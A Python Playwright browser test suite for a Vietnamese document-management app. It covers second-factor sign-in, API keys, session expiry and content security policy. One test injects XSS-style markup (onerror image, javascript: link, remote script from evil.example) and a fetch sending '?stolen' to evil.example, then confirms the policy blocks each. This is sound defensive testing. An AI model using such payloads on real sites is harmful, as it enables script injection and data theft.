"""The way in and out in a browser: second factor, keys, pages that close, and what the browser lets run."""

from __future__ import annotations

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import NARROW, WIDE, House, Visit, second_factor
from tests.browser.test_way import no_sideways_scroll

WITHIN_A_MINUTE_MS = 60_000
SIZES = pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
PLACES = {
    "lan": ("so-hoa", "hoi-dap", "kho-van-ban", "hoc-tap", "tai-khoan"),
    "quantri": ("quan-tri", "tai-khoan"),
}


GROUND = "() => getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor"
"""The colour that the page stands on."""


def address_of(page: Page) -> str:
    return "/".join(page.url.split("/")[:3])


@SIZES
def test_an_administrator_enters_with_a_second_factor(visit: Visit, size: tuple[int, int]) -> None:
    page = visit("quantri", size, "/tai-khoan")
    expect(page.get_by_text("Đã bật từ")).to_be_visible()
    expect(page.get_by_text("Bắt buộc với vai trò của bạn.")).to_be_visible()
    no_sideways_scroll(page)


def test_the_steps_fit_a_telephone(browser: Browser, house: House) -> None:
    window = browser.new_context(viewport={"width": NARROW[0], "height": NARROW[1]})
    page = window.new_page()
    page.goto(f"{house.server.address}/activate")
    narrow = "document.documentElement.scrollWidth <= window.innerWidth"
    assert page.evaluate(narrow)
    page.goto(f"{house.server.address}/sign-in")
    assert page.evaluate(narrow)
    window.close()


@pytest.mark.parametrize("username", list(PLACES))
def test_pages_live_with_the_policy(visit: Visit, username: str) -> None:
    """Nothing of ours or Streamlit's is stopped by the content security policy, in the dark or by day."""
    page = visit(username)
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda fault: said.append(f"violates: {fault}"))
    for place in PLACES[username]:
        page.emulate_media(color_scheme="dark")
        page.goto(f"{address_of(page)}/{place}")
        page.wait_for_selector(".st-key-topbar")
        expect(page.locator("[data-testid=stMain] h1")).to_be_visible()
        page.wait_for_load_state("networkidle")
        dark = page.evaluate(GROUND)
        page.emulate_media(color_scheme="light")
        page.wait_for_function(f"dark => ({GROUND})() !== dark", arg=dark)
        page.wait_for_load_state("networkidle")
        expect(page.get_by_test_id("stException")).to_have_count(0)
    assert not [text for text in said if "Content Security Policy" in text or "violates" in text]
    assert not [text for text in said if "BidiComponent Error" in text]


def test_text_that_became_markup_would_still_not_run(visit: Visit) -> None:
    page = visit("minh")
    page.evaluate(
        """() => {
          const box = document.createElement("div");
          box.innerHTML = '<img src="x" onerror="window.hurt = 1"><a href="javascript:window.hurt = 1">x</a>';
          document.body.append(box);
          box.querySelector("a").click();
          const script = document.createElement("script");
          script.textContent = "window.hurt = 1";
          document.body.append(script);
          const far = document.createElement("script");
          far.src = "https://evil.example/x.js";
          document.body.append(far);
        }"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.hurt") is None
    frame = page.evaluate(
        """async () => {
          try { await fetch("https://evil.example/?stolen"); return "sent" } catch { return "stopped" }
        }"""
    )
    assert frame == "stopped"


def test_open_pages_close_by_themselves(house: House, browser: Browser, visit: Visit) -> None:
    """Of a person who was disabled, and of one who signed out everywhere in another window."""
    added = house.server.vanthu(
        "account", "add", "sap.khoa", "--unit", "LOCAL", "--role", "official", "--json"
    )
    password = str(httpx.Response(200, content=added.stdout).json()["password"])
    window = browser.new_context()
    page = window.new_page()
    page.goto(f"{house.server.address}/sign-in")
    page.fill("input[name=username]", "sap.khoa")
    page.fill("input[name=password]", password)
    page.click("button[type=submit]")
    page.wait_for_selector(".st-key-topbar")
    here, there = visit("tam", path="/tai-khoan"), visit("tam")
    here.get_by_role("button", name="Đăng xuất ở mọi nơi").click()
    here.wait_for_url("**/sign-in*")
    assert house.server.vanthu("account", "disable", "sap.khoa").returncode == 0
    for closed in (there, page):
        closed.wait_for_url("**/sign-in*", timeout=WITHIN_A_MINUTE_MS)
        expect(closed.locator(".st-key-topbar")).to_have_count(0)
    window.close()


def test_a_key_is_shown_once_works_and_is_revoked(visit: Visit) -> None:
    page = visit("tam", path="/tai-khoan")
    page.get_by_text("Tạo khoá").first.click()
    page.get_by_label("Tên khoá").fill("Phần mềm một cửa")
    page.get_by_text("Tìm, hỏi và xem văn bản").click()
    page.get_by_test_id("stFormSubmitButton").get_by_role("button").click()
    shown = page.locator(".st-key-password code")
    expect(shown).to_be_visible()
    key = shown.inner_text().strip()
    bearer = {"Authorization": f"Bearer {key}"}
    reply = httpx.get(f"{address_of(page)}/api/me", headers=bearer)
    assert reply.json()["username"] == "tam" and "set-cookie" not in reply.headers
    page.get_by_role("button", name="Đã chép").click()
    expect(shown).to_have_count(0)
    page.wait_for_function("key => !document.documentElement.outerHTML.includes(key)", arg=key)
    page.get_by_role("button", name="Thu hồi").click()
    page.get_by_role("button", name="Thu hồi khoá").click()
    expect(page.get_by_text("Phần mềm một cửa")).to_have_count(0)
    assert httpx.get(f"{address_of(page)}/api/me", headers=bearer).status_code == 401


def test_a_new_password_is_asked_for_twice_and_counts(visit: Visit, house: House) -> None:
    page = visit("tam", path="/tai-khoan")
    page.get_by_role("button", name="Đổi mật khẩu").click()
    new = "năm con vịt bơi qua ao"
    page.fill("input[name=old]", house.passwords["tam"])
    page.fill("input[name=new]", new)
    page.fill("input[name=again]", new + "x")
    page.click("button[type=submit]")
    expect(page.get_by_role("alert")).to_contain_text("không giống nhau")
    page.fill("input[name=old]", house.passwords["tam"])
    page.fill("input[name=new]", new)
    page.fill("input[name=again]", new)
    page.click("button[type=submit]")
    expect(page.get_by_role("heading", name="Tài khoản của tôi")).to_be_visible()
    house.passwords["tam"] = new
    visit("tam")


def test_a_second_factor_is_set_up_by_choice(visit: Visit, house: House) -> None:
    page = visit("ha", path="/tai-khoan")
    page.get_by_role("button", name="Bật").click()
    page.fill("input[name=password]", house.passwords["ha"])
    page.click("button[type=submit]")
    second_factor(page, house.factors["ha"])
    expect(page.get_by_text("Còn 10 mã dự phòng")).to_be_visible()
    visit("ha")
    assert len(house.factors["ha"].recovery) == 9
